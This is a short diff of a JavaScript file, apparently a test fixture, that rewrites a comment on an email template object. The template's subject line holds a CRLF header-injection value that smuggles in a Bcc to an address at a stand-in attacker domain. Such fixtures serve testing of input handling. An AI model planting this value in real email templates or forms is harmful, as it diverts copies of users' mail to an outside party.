@@ -27,7 +27,7 @@ const model = {
     button: { type: 'text' },
   },
 }
-/** A template of a careless operator, with names in braces in each of its parts. */
+/** An operator's template that uses placeholders in each of its parts. */
 const template = {
   event: 'welcome',
   subject: '{shop}\r\nBcc: victim@evil.example',
